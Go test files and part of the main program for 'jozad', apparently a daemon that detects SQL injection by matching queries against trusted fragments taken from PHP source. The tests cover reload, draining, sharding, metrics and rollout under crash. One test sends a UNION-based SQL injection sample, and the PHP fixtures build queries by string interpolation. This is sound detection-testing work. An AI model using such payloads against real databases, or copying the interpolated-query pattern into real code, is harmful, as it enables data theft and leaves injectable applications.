			return fmt.Errorf("corrupt golden baseline %s: %w", goldenPath, err)
		}
		regressions, improvements := testbed.CompareMatrix(&golden, m)
		for _, msg := range improvements {
			log.Printf("improvement over golden (warn-only): %s", msg)
		}
		if len(regressions) > 0 {
			for _, msg := range regressions {
				log.Printf("REGRESSION: %s", msg)
			}
			return fmt.Errorf("detection matrix regressed against %s (%d regressions)", goldenPath, len(regressions))
		}
		log.Printf("detection matrix matches golden baseline %s", goldenPath)
	}
	return nil
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return strings.TrimSpace(s[:n]) + "..."
}
