package main

import "testing"

func TestRunTables(t *testing.T) {
	// Fast tables and the figure; heavier experiments are covered by the
	// testbed package tests.
	for _, args := range [][]string{
		{"-table", "1"},
		{"-table", "3"},
		{"-figure", "6"},
		{"-cases"},
		{"-fp"},
	} {
		if err := run(args); err != nil {
			t.Errorf("run(%v): %v", args, err)
		}
	}
}

func TestRunBadFlags(t *testing.T) {
	if err := run([]string{"-bogus"}); err == nil {
		t.Error("want flag error")
	}
	if err := run([]string{"-figure6-plugin", "no-such-plugin", "-figure", "6"}); err == nil {
		t.Error("want unknown-plugin error")
	}
}

func TestHelpers(t *testing.T) {
	if yn(true) != "Yes" || yn(false) != "No" {
		t.Error("yn")
	}
	if truncate("abc", 10) != "abc" {
		t.Error("truncate short")
	}
	if got := truncate("abcdefgh", 4); got != "abcd..." {
		t.Errorf("truncate = %q", got)
	}
}
