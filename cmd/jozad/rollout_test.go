package main

import (
	"bufio"
	"context"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"joza/internal/daemon"
	"joza/internal/profile"
	"joza/internal/sqltoken"
)

// bootInProcess runs jozad inside the test process and returns both bound
// addresses plus the run-result channel. Only one in-process daemon can be
// up at a time (they share the process's signal handling).
func bootInProcess(t *testing.T, args ...string) (daemonAddr, obsAddr string, runErr chan error) {
	t.Helper()
	ready := make(chan [2]string, 1)
	testReady = func(d, o string) { ready <- [2]string{d, o} }
	t.Cleanup(func() { testReady = nil })
	runErr = make(chan error, 1)
	go func() { runErr <- run(args) }()
	select {
	case addrs := <-ready:
		return addrs[0], addrs[1], runErr
	case err := <-runErr:
		t.Fatalf("jozad did not come up: %v", err)
	case <-time.After(10 * time.Second):
		t.Fatal("jozad did not come up")
	}
	return "", "", nil
}

func sigtermAndWait(t *testing.T, runErr chan error) {
	t.Helper()
	if err := syscall.Kill(os.Getpid(), syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	select {
	case err := <-runErr:
		if err != nil {
			t.Fatalf("run after SIGTERM = %v, want nil", err)
		}
	case <-time.After(15 * time.Second):
		t.Fatal("jozad did not drain")
	}
}

func daemonVersion(t *testing.T, addr string) string {
	t.Helper()
	c, err := daemon.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	st, err := c.Stats()
	if err != nil {
		t.Fatal(err)
	}
	return st.SnapshotVersion
}

func pollVersion(t *testing.T, addr, not string) string {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		if v := daemonVersion(t, addr); v != not {
			return v
		}
		time.Sleep(25 * time.Millisecond)
	}
	t.Fatalf("daemon version never moved off %q", not)
	return ""
}

// TestUnifiedWatchKeepsGenerationsWhole: with -watch, a fragment change
// and a profile-store change each produce one whole new generation — the
// served snapshot version stays non-empty across every reload. The old
// split tickers swapped analyzer and profiles independently through the
// partial setters, which reset the version to unversioned; a non-empty
// post-reload version is exactly what they could not produce.
func TestUnifiedWatchKeepsGenerationsWhole(t *testing.T) {
	dir := t.TempDir()
	appFile := filepath.Join(dir, "app.php")
	if err := os.WriteFile(appFile, []byte(`<?php
$q = "SELECT * FROM records WHERE ID=$id LIMIT 5";`), 0o644); err != nil {
		t.Fatal(err)
	}
	rec := profile.NewRecorderDialect(sqltoken.MySQL)
	rec.Record("app.php:2", "SELECT * FROM records WHERE ID=5 LIMIT 5")
	profPath := filepath.Join(t.TempDir(), "profiles.json")
	if err := os.WriteFile(profPath, rec.Store().Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	addr, _, runErr := bootInProcess(t,
		"-src", dir, "-addr", "127.0.0.1:0", "-watch", "25ms",
		"-profiles", profPath, "-drain", "5s")

	v1 := daemonVersion(t, addr)
	if v1 == "" {
		t.Fatal("freshly booted daemon serves an unversioned snapshot")
	}

	// Profile-only change: one new generation, still versioned.
	rec.Record("app.php:9", "DELETE FROM sessions WHERE sid=5")
	if err := os.WriteFile(profPath, rec.Store().Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	v2 := pollVersion(t, addr, v1)
	if v2 == "" {
		t.Fatal("profile reload produced an unversioned generation (partial swap)")
	}

	// Fragment-only change: again one whole generation.
	if err := os.WriteFile(appFile, []byte(`<?php
$q = "SELECT * FROM records WHERE ID=$id LIMIT 5";
$q2 = "SELECT name FROM users WHERE uid=$uid";`), 0o644); err != nil {
		t.Fatal(err)
	}
	v3 := pollVersion(t, addr, v2)
	if v3 == "" {
		t.Fatal("fragment reload produced an unversioned generation (partial swap)")
	}
	if v3 == v1 {
		t.Fatal("fragment change did not change the content-derived version")
	}
	// The reloaded fragments really serve.
	c, err := daemon.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	reply, err := c.Analyze("SELECT name FROM users WHERE uid=7")
	if err != nil {
		t.Fatal(err)
	}
	if reply.Attack {
		t.Fatal("query from the reloaded corpus still flagged")
	}
	if reply.Version != v3 {
		t.Fatalf("reply version %q, want the reloaded generation %q", reply.Version, v3)
	}
	sigtermAndWait(t, runErr)
}

// TestReadyzFlipsBeforeDrainStopsAccepting: on SIGTERM, /readyz turns 503
// while -ready-grace holds the listener open, so a load balancer watching
// readiness re-routes before connections start failing. The daemon must
// still accept and answer during the grace window.
func TestReadyzFlipsBeforeDrainStopsAccepting(t *testing.T) {
	addr, obsAddr, runErr := bootInProcess(t,
		"-selftest", "-addr", "127.0.0.1:0", "-obs", "127.0.0.1:0",
		"-ready-grace", "1500ms", "-drain", "5s")

	readyz := func() int {
		resp, err := http.Get("http://" + obsAddr + "/readyz")
		if err != nil {
			t.Fatalf("readyz: %v", err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	if code := readyz(); code != http.StatusOK {
		t.Fatalf("readyz while serving = %d", code)
	}
	if err := syscall.Kill(os.Getpid(), syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	// Readiness flips first...
	flipped := false
	for deadline := time.Now().Add(time.Second); time.Now().Before(deadline); {
		if readyz() == http.StatusServiceUnavailable {
			flipped = true
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if !flipped {
		t.Fatal("/readyz never flipped to 503 after SIGTERM")
	}
	// ...while the daemon still accepts brand-new connections.
	c, err := daemon.Dial(addr)
	if err != nil {
		t.Fatalf("dial during ready-grace: %v", err)
	}
	if _, err := c.Analyze("SELECT * FROM records WHERE ID=5 LIMIT 5"); err != nil {
		t.Fatalf("analyze during ready-grace: %v", err)
	}
	_ = c.Close()
	select {
	case err := <-runErr:
		if err != nil {
			t.Fatalf("run = %v", err)
		}
	case <-time.After(15 * time.Second):
		t.Fatal("daemon did not drain")
	}
}

// TestLearnCheckpointPersistsPeriodically: with -checkpoint, learning mode
// persists the accumulating store while the daemon runs — a later crash
// loses at most one interval — via the atomic temp-and-rename write (no
// torn files, no temp litter), and the graceful-drain write still lands
// everything.
func TestLearnCheckpointPersistsPeriodically(t *testing.T) {
	learnDir := t.TempDir()
	learnPath := filepath.Join(learnDir, "learned.json")
	addr, _, runErr := bootInProcess(t,
		"-selftest", "-addr", "127.0.0.1:0",
		"-learn", learnPath, "-checkpoint", "50ms", "-drain", "5s")

	c, err := daemon.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	ctx := context.Background()
	if _, err := c.AnalyzeSiteContext(ctx, "app.php:2", "SELECT * FROM records WHERE ID=5 LIMIT 5"); err != nil {
		t.Fatal(err)
	}
	// The checkpoint loop must land a loadable store without any shutdown.
	var sites int
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); {
		if st, err := profile.Load(learnPath); err == nil && st.Sites() >= 1 {
			sites = st.Sites()
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	if sites == 0 {
		t.Fatal("no checkpoint landed while the daemon was running")
	}
	// More training after the checkpoint still reaches the final write.
	if _, err := c.AnalyzeSiteContext(ctx, "app.php:9", "SELECT * FROM records WHERE ID=6 LIMIT 5"); err != nil {
		t.Fatal(err)
	}
	_ = c.Close()
	sigtermAndWait(t, runErr)
	st, err := profile.Load(learnPath)
	if err != nil {
		t.Fatal(err)
	}
	if st.Sites() != 2 {
		t.Fatalf("final store has %d sites, want 2", st.Sites())
	}
	// The atomic writes left no temp litter behind.
	entries, err := os.ReadDir(learnDir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if strings.HasPrefix(e.Name(), ".jozad-profiles-") {
			t.Errorf("temp file %s left behind", e.Name())
		}
	}
}

// TestHelperJozadProcess is not a test: it is the child-process body the
// rollout chaos tests re-exec, running a real jozad that can be SIGKILLed
// without taking the test process down.
func TestHelperJozadProcess(t *testing.T) {
	if os.Getenv("JOZAD_HELPER") != "1" {
		t.Skip("helper process body for the chaos tests")
	}
	if err := run(strings.Split(os.Getenv("JOZAD_ARGS"), "\x1f")); err != nil {
		fmt.Fprintf(os.Stderr, "helper run: %v\n", err)
		os.Exit(1)
	}
	os.Exit(0)
}

type childDaemon struct {
	cmd  *exec.Cmd
	addr string
}

// spawnJozad re-execs the test binary as a real jozad child process and
// waits for it to announce its bound address on stderr.
func spawnJozad(t *testing.T, extraEnv []string, args ...string) *childDaemon {
	t.Helper()
	cmd := exec.Command(os.Args[0], "-test.run", "^TestHelperJozadProcess$", "-test.v")
	cmd.Env = append(os.Environ(), "JOZAD_HELPER=1", "JOZAD_ARGS="+strings.Join(args, "\x1f"))
	cmd.Env = append(cmd.Env, extraEnv...)
	stderr, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = cmd.Process.Kill()
		_, _ = cmd.Process.Wait()
	})
	const marker = "serving PTI analysis on "
	addrCh := make(chan string, 1)
	go func() {
		sc := bufio.NewScanner(stderr)
		for sc.Scan() {
			line := sc.Text()
			if i := strings.Index(line, marker); i >= 0 {
				rest := line[i+len(marker):]
				if j := strings.IndexByte(rest, ' '); j > 0 {
					select {
					case addrCh <- rest[:j]:
					default:
					}
				}
			}
		}
	}()
	select {
	case addr := <-addrCh:
		return &childDaemon{cmd: cmd, addr: addr}
	case <-time.After(20 * time.Second):
		t.Fatal("child jozad did not announce its address")
		return nil
	}
}

func (c *childDaemon) sigkill() {
	_ = syscall.Kill(c.cmd.Process.Pid, syscall.SIGKILL)
	_, _ = c.cmd.Process.Wait()
}

func chaosPoolConfig() daemon.PoolConfig {
	return daemon.PoolConfig{
		Size:        2,
		Timeout:     10 * time.Second,
		DialTimeout: 500 * time.Millisecond,
		MaxAttempts: 2,
		BackoffMin:  time.Millisecond,
		BackoffMax:  10 * time.Millisecond,
	}
}

func writeChaosCorpus(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "app.php"), []byte(`<?php
$q = "SELECT * FROM records WHERE ID=$id LIMIT 5";`), 0o644); err != nil {
		t.Fatal(err)
	}
	return dir
}

func growChaosCorpus(t *testing.T, dir string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, "plugin.php"), []byte(`<?php
$q = "SELECT name FROM users WHERE uid=$uid";`), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestRolloutChaosKillMidPrepare SIGKILLs one real jozad inside its
// prepare window: the coordinator aborts the whole rollout, the surviving
// shard keeps serving the OLD snapshot untouched, and once the dead shard
// is replaced a re-run converges the fleet on one single version.
func TestRolloutChaosKillMidPrepare(t *testing.T) {
	dir := writeChaosCorpus(t)
	a := spawnJozad(t, nil, "-src", dir, "-addr", "127.0.0.1:0", "-drain", "2s")
	b := spawnJozad(t, []string{"JOZAD_TEST_PREPARE_SLEEP=5s"},
		"-src", dir, "-addr", "127.0.0.1:0", "-drain", "2s")
	v0 := daemonVersion(t, a.addr)
	if v0 == "" {
		t.Fatal("child daemon serves unversioned snapshot")
	}
	if vb := daemonVersion(t, b.addr); vb != v0 {
		t.Fatalf("same corpus booted to different versions: %q vs %q", v0, vb)
	}
	growChaosCorpus(t, dir)

	sp, err := daemon.DialShardedPool([]string{a.addr, b.addr}, chaosPoolConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	rollErr := make(chan error, 1)
	go func() {
		_, err := sp.Rollout(ctx)
		rollErr <- err
	}()
	// B is asleep inside its prepare hook; kill it mid-phase.
	time.Sleep(1 * time.Second)
	b.sigkill()
	select {
	case err := <-rollErr:
		if err == nil || !strings.Contains(err.Error(), "rollout aborted") {
			t.Fatalf("rollout = %v, want containment abort", err)
		}
	case <-time.After(30 * time.Second):
		t.Fatal("rollout did not return after mid-prepare kill")
	}
	// The survivor still serves the old whole version and sheds nothing.
	if got := daemonVersion(t, a.addr); got != v0 {
		t.Fatalf("survivor serves %q after aborted rollout, want %q kept", got, v0)
	}
	c, err := daemon.Dial(a.addr)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Analyze("SELECT * FROM records WHERE ID=5 LIMIT 5"); err != nil {
		t.Fatalf("survivor shed a check: %v", err)
	}
	_ = c.Close()

	// Replace the dead shard and re-run: the fleet converges on one
	// version, built from the grown corpus.
	b2 := spawnJozad(t, nil, "-src", dir, "-addr", "127.0.0.1:0", "-drain", "2s")
	sp2, err := daemon.DialShardedPool([]string{a.addr, b2.addr}, chaosPoolConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer sp2.Close()
	report, err := sp2.Rollout(ctx)
	if err != nil {
		t.Fatalf("re-run rollout: %v (report %+v)", err, report)
	}
	va, vb := daemonVersion(t, a.addr), daemonVersion(t, b2.addr)
	if va == "" || va != vb || va == v0 {
		t.Fatalf("fleet did not converge on one new version: %q vs %q (old %q)", va, vb, v0)
	}
}

// TestRolloutChaosKillMidCommit SIGKILLs one real jozad inside its commit
// window, after its sibling already committed: the committed shard keeps
// serving the NEW snapshot, and the dead shard converges on the same
// version by rebuilding from the same source on restart — no second
// rollout required.
func TestRolloutChaosKillMidCommit(t *testing.T) {
	dir := writeChaosCorpus(t)
	a := spawnJozad(t, nil, "-src", dir, "-addr", "127.0.0.1:0", "-drain", "2s")
	b := spawnJozad(t, []string{"JOZAD_TEST_COMMIT_SLEEP=8s"},
		"-src", dir, "-addr", "127.0.0.1:0", "-drain", "2s")
	v0 := daemonVersion(t, a.addr)
	growChaosCorpus(t, dir)

	sp, err := daemon.DialShardedPool([]string{a.addr, b.addr}, chaosPoolConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	rollErr := make(chan error, 1)
	go func() {
		_, err := sp.Rollout(ctx)
		rollErr <- err
	}()
	// A commits as soon as the commit phase starts; observing its version
	// flip proves B is inside its own commit window (asleep in the hook).
	vNew := pollVersion(t, a.addr, v0)
	b.sigkill()
	select {
	case err := <-rollErr:
		if err == nil || !strings.Contains(err.Error(), "committed on 1/2 shards") {
			t.Fatalf("rollout = %v, want partial-commit report", err)
		}
	case <-time.After(30 * time.Second):
		t.Fatal("rollout did not return after mid-commit kill")
	}
	// The committed shard keeps the new self-tested snapshot and serves.
	if got := daemonVersion(t, a.addr); got != vNew {
		t.Fatalf("committed shard rolled back to %q, want %q", got, vNew)
	}
	c, err := daemon.Dial(a.addr)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Analyze("SELECT name FROM users WHERE uid=7"); err != nil {
		t.Fatalf("committed shard shed a check: %v", err)
	}
	_ = c.Close()

	// The dead shard rebuilds from the same source tree on restart and
	// lands on the same content-derived version: the fleet is whole again.
	b2 := spawnJozad(t, nil, "-src", dir, "-addr", "127.0.0.1:0", "-drain", "2s")
	if got := daemonVersion(t, b2.addr); got != vNew {
		t.Fatalf("restarted shard serves %q, want convergence on %q", got, vNew)
	}
}
