package main

import "testing"

func TestParseCacheMode(t *testing.T) {
	for _, mode := range []string{"none", "query", "query+structure"} {
		if _, err := parseCacheMode(mode); err != nil {
			t.Errorf("%s: %v", mode, err)
		}
	}
	if _, err := parseCacheMode("bogus"); err == nil {
		t.Error("bad mode must error")
	}
}

func TestRunErrors(t *testing.T) {
	if err := run(nil); err == nil {
		t.Error("missing -src/-selftest must error")
	}
	if err := run([]string{"-src", "/no/such/dir"}); err == nil {
		t.Error("bad src must error")
	}
	if err := run([]string{"-selftest", "-cache", "bogus"}); err == nil {
		t.Error("bad cache mode must error")
	}
	if err := run([]string{"-bogus"}); err == nil {
		t.Error("bad flag must error")
	}
}
