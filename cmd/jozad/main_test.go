package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"joza/internal/daemon"
	"joza/internal/guardrail"
	"joza/internal/trace"
)

func TestParseCacheMode(t *testing.T) {
	for _, mode := range []string{"none", "query", "query+structure"} {
		if _, err := parseCacheMode(mode); err != nil {
			t.Errorf("%s: %v", mode, err)
		}
	}
	if _, err := parseCacheMode("bogus"); err == nil {
		t.Error("bad mode must error")
	}
}

func TestParseShardSpec(t *testing.T) {
	idx, total, err := parseShardSpec("")
	if err != nil || idx != 0 || total != 1 {
		t.Fatalf("empty spec = (%d, %d, %v), want (0, 1, nil)", idx, total, err)
	}
	idx, total, err = parseShardSpec("1/4")
	if err != nil || idx != 1 || total != 4 {
		t.Fatalf("1/4 = (%d, %d, %v), want (1, 4, nil)", idx, total, err)
	}
	for _, bad := range []string{"x", "1", "2/2", "-1/2", "0/0", "3/2"} {
		if _, _, err := parseShardSpec(bad); err == nil {
			t.Errorf("parseShardSpec(%q) must error", bad)
		}
	}
}

// TestShardedDaemonServesOnlyItsSlice boots two jozad shards of the same
// corpus and proves the slicing is real and complementary: a query whose
// fragment the ring assigns to shard 0 is covered (benign) on shard 0 and
// uncovered (attack) on shard 1, and vice versa.
func TestShardedDaemonServesOnlyItsSlice(t *testing.T) {
	// Fully static query strings become whole fragments, so a query equal
	// to one is completely covered wherever its fragment lives. Pick one
	// query owned by each ring shard.
	ring := guardrail.NewRing(2, 0)
	var queries []string
	byShard := [2]string{}
	for i := 0; byShard[0] == "" || byShard[1] == ""; i++ {
		q := fmt.Sprintf("SELECT col%d FROM table%d WHERE flag=1", i, i)
		queries = append(queries, q)
		if s := ring.Owner(q); byShard[s] == "" {
			byShard[s] = q
		}
	}
	var php strings.Builder
	php.WriteString("<?php\n")
	for i, q := range queries {
		fmt.Fprintf(&php, "$q%d = \"%s\";\n", i, q)
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "app.php"), []byte(php.String()), 0o644); err != nil {
		t.Fatal(err)
	}

	boot := func(spec string) (addr string, stop func()) {
		ready := make(chan string, 1)
		testReady = func(daemonAddr, _ string) { ready <- daemonAddr }
		defer func() { testReady = nil }()
		runErr := make(chan error, 1)
		go func() {
			runErr <- run([]string{"-src", dir, "-shard", spec, "-addr", "127.0.0.1:0", "-drain", "5s"})
		}()
		select {
		case addr = <-ready:
		case err := <-runErr:
			t.Fatalf("shard %s did not come up: %v", spec, err)
		case <-time.After(10 * time.Second):
			t.Fatalf("shard %s did not come up", spec)
		}
		return addr, func() {
			_ = syscall.Kill(os.Getpid(), syscall.SIGTERM)
			select {
			case <-runErr:
			case <-time.After(10 * time.Second):
				t.Errorf("shard %s did not drain", spec)
			}
		}
	}

	check := func(addr, query string) bool {
		t.Helper()
		c, err := daemon.Dial(addr)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		reply, err := c.Analyze(query)
		if err != nil {
			t.Fatal(err)
		}
		return reply.Attack
	}

	// Booted one at a time: both instances register SIGTERM on the same
	// process, so stopping one would stop them both.
	addr0, stop0 := boot("0/2")
	q0attack, q1onShard0 := check(addr0, byShard[0]), check(addr0, byShard[1])
	stop0()
	addr1, stop1 := boot("1/2")
	q0onShard1, q1attack := check(addr1, byShard[0]), check(addr1, byShard[1])
	stop1()

	if q0attack {
		t.Error("shard 0 flagged its own fragment's query as attack; slice missing its keyspace")
	}
	if !q1onShard0 {
		t.Error("shard 0 covered shard 1's query; slicing did not drop foreign fragments")
	}
	if q1attack {
		t.Error("shard 1 flagged its own fragment's query as attack; slice missing its keyspace")
	}
	if !q0onShard1 {
		t.Error("shard 1 covered shard 0's query; slicing did not drop foreign fragments")
	}
}

func TestRunErrors(t *testing.T) {
	if err := run(nil); err == nil {
		t.Error("missing -src/-selftest must error")
	}
	if err := run([]string{"-src", "/no/such/dir"}); err == nil {
		t.Error("bad src must error")
	}
	if err := run([]string{"-selftest", "-cache", "bogus"}); err == nil {
		t.Error("bad cache mode must error")
	}
	if err := run([]string{"-bogus"}); err == nil {
		t.Error("bad flag must error")
	}
}

// TestSigtermDrainsAndExitsCleanly boots a real jozad, proves it serves,
// then delivers SIGTERM as an init system would: run must drain and
// return nil so main exits 0.
func TestSigtermDrainsAndExitsCleanly(t *testing.T) {
	ready := make(chan string, 1)
	testReady = func(daemonAddr, _ string) { ready <- daemonAddr }
	defer func() { testReady = nil }()
	runErr := make(chan error, 1)
	go func() {
		runErr <- run([]string{"-selftest", "-addr", "127.0.0.1:0", "-drain", "5s"})
	}()
	var addr string
	select {
	case addr = <-ready:
	case <-time.After(10 * time.Second):
		t.Fatal("daemon did not come up")
	}
	c, err := daemon.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Analyze("SELECT * FROM records WHERE ID=5 LIMIT 5"); err != nil {
		t.Fatal(err)
	}
	_ = c.Close()
	if err := syscall.Kill(os.Getpid(), syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	select {
	case err := <-runErr:
		if err != nil {
			t.Fatalf("run after SIGTERM = %v, want nil (exit 0)", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("daemon did not drain after SIGTERM")
	}
}

// TestObservabilityEndToEnd boots a real jozad (selftest fragment set)
// with the observability listener, drives analyze traffic through the
// wire protocol, and checks the HTTP surface: Prometheus /metrics with
// counters and per-stage histograms, /healthz, /debug/pprof/ and /traces.
func TestObservabilityEndToEnd(t *testing.T) {
	ready := make(chan [2]string, 1)
	testReady = func(daemonAddr, obsAddr string) {
		ready <- [2]string{daemonAddr, obsAddr}
	}
	defer func() { testReady = nil }()
	go func() {
		// The selftest probe supplies one benign and one attack analyze.
		if err := run([]string{"-selftest", "-addr", "127.0.0.1:0", "-obs", "127.0.0.1:0"}); err != nil {
			t.Errorf("run: %v", err)
		}
	}()
	var addrs [2]string
	select {
	case addrs = <-ready:
	case <-time.After(10 * time.Second):
		t.Fatal("daemon did not come up")
	}
	daemonAddr, obsAddr := addrs[0], addrs[1]
	if obsAddr == "" {
		t.Fatal("observability listener did not bind")
	}

	// Analyze through the wire so /metrics has deterministic traffic on
	// top of the probe's.
	c, err := daemon.Dial(daemonAddr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.Analyze("SELECT * FROM records WHERE ID=5 LIMIT 5"); err != nil {
		t.Fatal(err)
	}
	reply, err := c.Analyze("SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5")
	if err != nil {
		t.Fatal(err)
	}
	if !reply.Attack {
		t.Fatal("attack not flagged")
	}
	if reply.Trace == nil {
		t.Fatal("default tracing did not attach a span to the reply")
	}

	get := func(path string) (int, string) {
		t.Helper()
		resp, err := http.Get("http://" + obsAddr + path)
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		defer resp.Body.Close()
		body, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		return resp.StatusCode, string(body)
	}

	code, body := get("/metrics")
	if code != http.StatusOK {
		t.Fatalf("/metrics status %d", code)
	}
	for _, want := range []string{
		"joza_checks_total",
		"joza_attacks_total",
		`joza_daemon_ops_total{op="analyze"}`,
		"# TYPE joza_check_duration_seconds histogram",
		"# TYPE joza_stage_duration_seconds histogram",
		`joza_stage_duration_seconds_bucket{stage="lex"`,
		`joza_stage_duration_seconds_bucket{stage="pti_cover"`,
	} {
		if !strings.Contains(body, want) {
			t.Errorf("/metrics missing %q", want)
		}
	}

	if code, body := get("/healthz"); code != http.StatusOK || body != "ok\n" {
		t.Fatalf("/healthz = %d %q", code, body)
	}
	if code, _ := get("/debug/pprof/"); code != http.StatusOK {
		t.Fatalf("/debug/pprof/ = %d", code)
	}

	code, body = get("/traces")
	if code != http.StatusOK {
		t.Fatalf("/traces status %d", code)
	}
	var dump trace.Dump
	if err := json.Unmarshal([]byte(body), &dump); err != nil {
		t.Fatalf("/traces not JSON: %v", err)
	}
	if len(dump.Recent) == 0 || len(dump.Notable) == 0 {
		t.Fatalf("/traces = %d recent, %d notable; want traffic", len(dump.Recent), len(dump.Notable))
	}

	// The wire protocol's traces verb serves the same rings.
	wire, err := c.Traces()
	if err != nil {
		t.Fatal(err)
	}
	if wire.Started == 0 || len(wire.Notable) == 0 {
		t.Fatalf("traces verb = %+v, want traffic", wire)
	}
}
