// Command jozad runs the Joza PTI daemon: it extracts trusted fragments
// from an application's source tree, loads them into memory, and serves
// PTI analysis requests over TCP (the stand-in for the paper's named
// pipes).
//
// Usage:
//
//	jozad -src /path/to/app [-addr 127.0.0.1:7033] [-dialect mysql] [-cache query+structure]
//	      [-read-timeout 2m] [-max-request 1048576]
//	      [-max-inflight 64] [-admission-wait 50ms]
//	      [-max-query-bytes 1048576] [-max-tokens 4096] [-drain 10s]
//	      [-obs 127.0.0.1:9033] [-trace-sample 1]
//	jozad -selftest   # run against a built-in demo fragment set
//
// SIGTERM (or SIGINT) drains gracefully: the daemon stops accepting,
// finishes in-flight analyses within -drain, and exits 0.
//
// With -obs the daemon serves its observability surface over HTTP:
// Prometheus /metrics (counters plus latency and per-stage histograms),
// /healthz, /readyz (503 until a snapshot serves and again once a drain
// begins, before the daemon stops accepting), /traces (recent and notable
// decision traces) and the standard /debug/pprof/ handlers. Tracing
// itself is independent of the listener: sampled analyze requests also
// answer the wire protocol's "traces" verb and attach their span to the
// reply.
//
// Snapshots are versioned: the daemon hashes the unsliced fragment
// corpus, the profile store, the dialect and the analysis limits into a
// content-derived version (every shard of one fleet generation reports
// the same one), stamps it on replies and stats, and serves the
// two-phase rollout verbs — prepare (rebuild + self-test without
// swapping), commit, abort — that daemon.ShardedPool.Rollout coordinates
// fleet-wide.
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"net"
	"os"
	"os/signal"
	"path/filepath"
	"sync/atomic"
	"syscall"
	"time"

	"joza"
	"joza/internal/daemon"
	"joza/internal/engine"
	"joza/internal/fragments"
	"joza/internal/guardrail"
	"joza/internal/installer"
	"joza/internal/obs"
	"joza/internal/profile"
	"joza/internal/pti"
	"joza/internal/sqltoken"
	"joza/internal/trace"
)

// testReady, when set by a test, receives the bound daemon and
// observability addresses once both listeners are up.
var testReady func(daemonAddr, obsAddr string)

func main() {
	log.SetFlags(0)
	log.SetPrefix("jozad: ")
	if err := run(os.Args[1:]); err != nil {
		log.Fatal(err)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("jozad", flag.ContinueOnError)
	src := fs.String("src", "", "application source directory to extract fragments from")
	addr := fs.String("addr", "127.0.0.1:7033", "listen address")
	dialectName := fs.String("dialect", "mysql", "SQL dialect the daemon lexes under: mysql, postgres, sqlite")
	cacheMode := fs.String("cache", "query+structure", "cache mode: none, query, query+structure")
	cacheCap := fs.Int("cache-capacity", 8192, "entries per cache")
	watch := fs.Duration("watch", 0, "with -src: re-extract fragments at this interval when files change")
	readTimeout := fs.Duration("read-timeout", 2*time.Minute, "drop connections idle longer than this (0 disables)")
	maxRequest := fs.Int64("max-request", daemon.DefaultMaxRequestBytes, "max bytes per wire request")
	maxInflight := fs.Int("max-inflight", 0, "max concurrently running analyses; excess requests shed with an overloaded error (0 disables)")
	admissionWait := fs.Duration("admission-wait", 50*time.Millisecond, "with -max-inflight: how long a request may wait for a slot before shedding")
	maxQueryBytes := fs.Int("max-query-bytes", 0, "reject queries longer than this before analysis (0 disables)")
	maxTokens := fs.Int("max-tokens", 0, "reject queries lexing into more tokens than this (0 disables)")
	drain := fs.Duration("drain", 10*time.Second, "on SIGTERM/SIGINT: finish in-flight requests for up to this long before force-closing")
	obsAddr := fs.String("obs", "", "observability HTTP listen address: /metrics, /healthz, /traces, /debug/pprof/ (empty disables)")
	traceSample := fs.Int("trace-sample", 1, "trace one analyze request in N (0 disables tracing)")
	traceRing := fs.Int("trace-ring", trace.DefaultRingSize, "capacity of each trace ring buffer")
	traceSlow := fs.Duration("trace-slow", 0, "also mark benign traces at or above this duration notable (0: attacks only)")
	shardSpec := fs.String("shard", "", "serve shard i/n of a fleet (e.g. 0/2): keep only the fragment slice the fleet's consistent-hash ring assigns to shard i, so n daemons split the corpus (empty: serve everything)")
	profilesPath := fs.String("profiles", "", "serve query-skeleton profile verdicts from this store file; with -watch the file is reloaded when it changes (a corrupt file keeps the prior store)")
	learnPath := fs.String("learn", "", "profile learning mode: record (site, skeleton) pairs for requests that carry a call site and write the store here on shutdown (overrides -profiles)")
	checkpoint := fs.Duration("checkpoint", 0, "with -learn: atomically persist the learned store at this interval, so a crash loses at most one interval of training (0: write only on graceful drain)")
